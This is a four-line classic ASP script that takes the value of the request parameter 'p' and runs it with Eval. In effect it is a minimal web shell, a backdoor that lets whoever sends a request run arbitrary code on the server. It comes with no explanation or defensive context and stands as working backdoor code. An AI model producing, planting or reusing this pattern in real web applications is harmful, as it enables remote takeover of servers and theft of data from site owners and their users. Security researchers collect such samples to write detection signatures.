<%
x = Request("p")
Eval x
%>
